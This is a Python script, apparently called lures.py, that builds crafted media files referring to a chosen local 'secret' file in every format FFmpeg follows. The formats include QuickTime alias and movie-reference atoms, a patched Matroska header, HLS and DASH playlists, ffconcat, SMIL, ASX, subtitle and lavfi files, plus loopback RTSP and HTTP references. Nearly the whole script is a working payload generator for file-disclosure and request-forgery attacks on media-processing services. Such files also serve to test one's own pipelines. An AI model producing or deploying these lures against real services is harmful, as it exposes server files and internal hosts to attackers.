"""Makes files that refer to another one, in every way that FFmpeg knows: lures.py SECRET PLAIN.mov PLAIN.mkv FOLDER"""
import os
import struct
import sys

secret, mov, mkv, folder = sys.argv[1:]
name = os.path.basename(secret)


def write(name, data):
    with open(os.path.join(folder, name), "wb") as file:
        file.write(data if isinstance(data, bytes) else data.encode())


def box(kind, data):
    return struct.pack(">I4s", 8 + len(data), kind) + data


def alias(path, levels):
    """A reference of QuickTime: an alias record, with the absolute path as its item 2; levels lead there from the file, if it is near."""
    text = path.replace("/", ":").encode()
    text = b"disk" + text
    items = struct.pack(">HH", 2, len(text)) + text + b"\0" * (len(text) % 2) + struct.pack(">HH", 0xffff, 0)
    base = os.path.basename(path).encode()
    record = (bytes(10) + b"\4" + b"disk".ljust(27, b"\0") + bytes(12) + bytes([len(base)]) + base.ljust(63, b"\0") + bytes(16) +
              struct.pack(">HH", *levels) + bytes(16) + items)
    return box(b"alis", bytes(4) + record)


def refer(data, path, levels):
    """The boxes, with the first of each list of data references leading to path."""
    out, at = b"", 0
    while at + 8 <= len(data):
        size, kind = struct.unpack_from(">I4s", data, at)
        content = data[at + 8:at + size]
        if kind in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
            content = refer(content, path, levels)
        elif kind == b"dref":
            content = bytes(4) + struct.pack(">I", 1) + alias(path, levels)
        out += box(kind, content)
        at += size
    return out


def linked(data):
    """In the header of the segment, the name of the application gives way to that of the next file."""
    at = data.index(b"\x57\x41")
    size = data[at + 2] & 0x7f
    following = name.encode().ljust(size - 1, b"\0")[:size - 1]
    return data[:at] + b"\x3e\x83\xbb" + bytes([0x80 | size - 1]) + following + data[at + 3 + size:]


with open(mov, "rb") as file:
    plain = file.read()
assert plain.index(b"moov") > plain.index(b"mdat"), "offsets of the samples would change"
write("dref.mov", refer(plain, secret, (0, 0)))
write("near.mov", refer(plain, secret, (2, 1)))
with open(mkv, "rb") as file:
    write("linked.mkv", linked(file.read()))

hls = f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-MAP:URI=\"{secret}\"\n#EXTINF:9,\n{secret}\n#EXTINF:9,\n../{name}\n" \
      "#EXTINF:9,\nhttp://127.0.0.1:9/x.ts\n#EXT-X-ENDLIST\n"
dash = '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:DASH:schema:MPD:2011" profiles="urn:mpeg:dash:profile:isoff-main:2011">\n' \
       f"<Period><AdaptationSet><Representation><BaseURL>../{name}</BaseURL></Representation></AdaptationSet></Period></MPD>\n"
imf = '<?xml version="1.0"?>\n<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id></CompositionPlaylist>\n'
vobsub = "# VobSub index file, v7 (do not modify this line!)\nsize: 720x480\nid: en, index: 0\ntimestamp: 00:00:01:000, filepos: 000000000\n"
texts = {
    "hls": hls, "dash": dash, "imf": imf, "vobsub": vobsub,
    "concat": f"ffconcat version 1.0\nfile {secret}\nfile ../{name}\n",
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    "smil": f'<smil><body><video src="../{name}"/></body></smil>\n',
    "asx": f'<asx version="3.0"><entry><ref href="../{name}"/></entry></asx>\n',
    "ram": f"file://{secret}\n", "avs": f'DirectShowSource("{secret}")\n', "lavfi": f"movie={secret}\n",
    "ass": f"[Script Info]\nScriptType: v4.00+\nVideo File: {secret}\nAudio File: {secret}\n[Events]\nDialogue: 0,0:00:01.00,0:00:02.00,,,,,,,a\n",
    "reference": f"RTSPtextrtsp://127.0.0.1:9/x.mov\r\n",
}
for kind, text in texts.items():
    for ending in ("mp4", "wav"):
        write(f"{kind}.{ending}", text)
write("vobsub.sub", b"\0\0\1\xba" + bytes(2000))
write("img%03d.mp4", b"\x89PNG\r\n\x1a\n" + bytes(100))
write("movie_reference.mov", box(b"ftyp", b"qt  \0\0\0\0qt  ") +
      box(b"moov", box(b"rmra", box(b"rmda", box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(secret) + 1) + secret.encode() + b"\0")))))
